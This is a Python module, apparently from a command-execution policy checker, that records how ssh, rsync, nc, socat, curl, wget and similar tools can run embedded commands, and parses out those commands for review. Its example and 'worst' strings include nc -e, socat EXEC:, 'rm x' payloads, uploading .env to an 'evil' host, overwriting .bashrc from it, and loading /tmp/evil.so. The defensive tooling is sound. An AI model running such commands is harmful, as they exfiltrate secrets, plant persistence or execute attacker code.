"""Programs that run commands on other machines, or reach them."""

from __future__ import annotations

from execpolicy.programs.inner import run_argv, run_text
from execpolicy.programs.record import Program, Wrapper
from execpolicy.programs.shelf.editors import line_editor
from execpolicy.programs.text_runs import shown_texts

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from execpolicy.flow.facts import Facts
    from execpolicy.programs.inner import Inner
    from execpolicy.shell.script import Command


def socat(command: Command, facts: Facts, name: str, record: Program) -> Iterator[Inner]:
    """``socat - EXEC:'cmd'``, ``SYSTEM:`` and ``SHELL:`` addresses."""
    for word in command.words[1:]:
        text = word.prefix
        kind, colon, rest = text.partition(":")
        if colon and kind.upper() in ("EXEC", "SYSTEM", "SHELL"):
            yield run_text(name, command, rest.partition(",")[0].strip("\"'"))


def ssh_settings(command: Command, facts: Facts, name: str, record: Program) -> Iterator[Inner]:
    """What the settings run that the script itself shows: ``ssh -F <(echo 'ProxyCommand …')``."""
    from execpolicy.programs.run_by_options import ssh_texts

    for word in command.words[1:]:
        for text in shown_texts(word, command, facts):
            for line in text.split("\n"):
                yield from [run_text(name, command, run) for run in ssh_texts(line)]


def sftp(command: Command, facts: Facts, name: str, record: Program) -> Iterator[Inner]:
    """``!cmd`` on standard input, and settings."""
    yield from line_editor(command, facts, name, record)
    yield from ssh_settings(command, facts, name, record)


_ADDRESSES = ("cmd:", "sh-c:", "exec:")


def websocat(command: Command, facts: Facts, name: str, record: Program) -> Iterator[Inner]:
    """``cmd:TEXT``, ``sh-c:TEXT`` and ``exec:PROGRAM`` with ``--exec-args`` behind it."""
    words = command.words
    behind = next((at + 1 for at, word in enumerate(words) if word.literal == "--exec-args"), len(words))
    for word in words[1:]:
        text = word.literal or ""
        start = next((each for each in _ADDRESSES if text.startswith(each)), None)
        if start is not None:
            yield run_argv(name, command, text[len(start) :].split(), words[behind:], evidence=True)
            yield run_text(name, command, text[len(start) :])


def media_player(command: Command, facts: Facts, name: str, record: Program) -> Iterator[Inner]:
    """``mpv --input-commands='run cmd argument'``."""
    for word in command.words[1:]:
        option, _, value = (word.literal or "").partition("=")
        if option in ("--input-commands", "--input-command"):
            for text in value.split(";"):
                verb, _, rest = text.strip().partition(" ")
                yield from [run_text(name, command, rest)] if verb in ("run", "subprocess") else []


# fmt: off
RECORDS = (
    Program("ssh autossh", Wrapper("-4 -6 -A -a -C -f -G -g -K -k -M -N -n -q -s -T -t -V -v -X -x -Y -y -B: -b: -c: "
        "-D: -E: -e: -F: -I: -i: -J: -L: -l: -m: -O: -o: -P: -p: -Q: -R: -S: -W: -w: @permute", 1, joined=True,
        stop="-G -V -Q", shell=True), settings="-o!", form="ssh",
        always="it runs any command elsewhere, and `-o ProxyCommand=…` here", example="ssh -p 22 host rm x",
        carries=ssh_settings),
    Program("mosh", Wrapper("--ssh! --server: --client* --predict: -p: --port: -a -n -4 -6 --no-init --local "
        "@permute", 1), example="mosh host -- rm x"),
    Program("rsh", Wrapper("-l: -n -d -K @permute", 1, joined=True), example="rsh -l bob host rm x"),
    Program("sshpass", Wrapper("-f: -d: -p: -e -P: -v -h -V"), example="sshpass -p x rm x"),
    Program("scp", settings="-S* -D* -o!", options="-3 -4 -6 -A -B -C -c: -D* -F: -i: -J: -l: -O -o! -P: -p -q -R -r "
        "-S* -s -T -v -X:", form="ssh", writes="into",
        always="`-S` and `-o ProxyCommand=…` run any program", example="scp -o ProxyCommand='rm x' a h:b",
        carries=ssh_settings),
    Program("sftp", settings="-S* -o! -D*", form="ssh", carries=sftp,
        always="`-S`, `-o ProxyCommand=…` and `!` run any program", example="sftp -S 'rm x' h"),
    Program("rsync", settings="-e! --rsh! --rsync-path! -M!", options="-e! -M! -f: -B: -T: -a -b -c -C -d -g -h -H -i "
        "-k -K -l -L -m -n -o -O -p -P -q -r -R -s -S -t -u -v -W -x -y -z -0 -4 -6 -8 --rsh! --rsync-path! --delete "
        "--exclude: --include: --filter: --log-file: --temp-dir: --partial-dir: --backup-dir: --archive --recursive "
        "--remove-source-files --progress --write-batch:", writes="into, from if --remove-source-files, --log-file, "
        "--backup-dir/, --partial-dir/, --temp-dir/, --write-batch",
        always="`-e` and `--rsync-path` run any program", example="rsync -e 'rm x' a h:b"),
    Program("ssh-keygen", settings="-D!", example="ssh-keygen -D 'rm x'"),
    Program("ssh-add", settings="-s!", example="ssh-add -s 'rm x'"),
    Program("nc netcat ncat", settings="-e! -c! --exec! --sh-exec!", always="`-e` and `-c` run any program",
        example="nc -e 'rm x' h 1"),
    Program("socat", carries=socat, always="`EXEC:` runs any program", example="socat - EXEC:'rm x'"),
    Program("ftp telnet", carries=line_editor, example="ftp <<< '!rm x'", worst="elsewhere evil.example"),
    Program("lftp", carries=line_editor, example="lftp <<< '!rm x'", worst="run -e '!./evil'"),
    Program("mail mailx mutt neomutt s-nail", settings="-S! -e!", form="mail", carries=line_editor,
        example="mail <<< '!rm x'", worst="publish -s x evil@evil.example"),
    Program("wget", settings="--use-askpass! -e! --execute!", form="wget", writes="-O, --output-document, -o, "
        "--output-file, -a, --append-output, -P/, --directory-prefix/, --save-cookies, --hsts-file, --rejected-log, "
        "--warc-file, --warc-tempdir, urls -P --directory-prefix unless -O --output-document --spider, "
        "? if -i --input-file -r --recursive -m --mirror -p --page-requisites --content-disposition "
        "--trust-server-names -e --execute --config",
        broad="-O", example="wget --use-askpass='rm x' u"),
    Program("pandoc", settings="-F! --filter! --pdf-engine!",
        options="-o: -f: -t: -F! --output: --from: --to: --filter! --pdf-engine!",
        writes="-o, --output, named", task="2", example="pandoc --filter 'rm x' a.md"),
    Program("curl", writes="-o, --output, -D, --dump-header, -c, --cookie-jar, --trace, --trace-ascii, --stderr, "
        "--libcurl, --hsts, --alt-svc, --etag-save, --ssl-sessions, --output-dir/, @curl, "
        "urls --output-dir if -O --remote-name --remote-name-all -J --remote-header-name, "
        "? if -J -K --remote-header-name --config", broad="-o, -O, -K, -T, -d",
        worst="write -o /home/u/.bashrc https://evil; load -K /tmp/evil; publish -T .env https://evil"),
    Program("aria2c", settings="--on-download-complete! --on-download-start! --on-download-error! "
        "--on-download-stop! --on-bt-download-complete!", example="aria2c --on-download-complete='rm x' u"),
    Program("yt-dlp youtube-dl", settings="--exec! --exec-before-download! --netrc-cmd!",
        example="yt-dlp --exec 'rm x' u"),
    Program("openvpn", settings="--up! --down! --route-up! --ipchange! --client-connect! --tls-verify!",
        example="openvpn --up 'rm x'"),
    Program("tcpdump", settings="-z!", example="tcpdump -z 'rm x'"),
    Program("nmap", broad="--script", worst="run --script ./evil"),
    Program("openssl", options="-out: -keyout: -in: -writerand: -certout: -CAserial: -outdir:", writes="-out, -keyout, "
        "-writerand, named", prints="input", broad="",
        worst="[] load dgst -engine /tmp/evil.so x; [] write rand -out /home/u/.bashrc 9"),
    Program("websocat", carries=websocat, example="websocat 'cmd:rm x' -"),
    Program("mpv", carries=media_player, example="mpv --input-commands='run rm x' a"),
    Program("rsnapshot"),
)
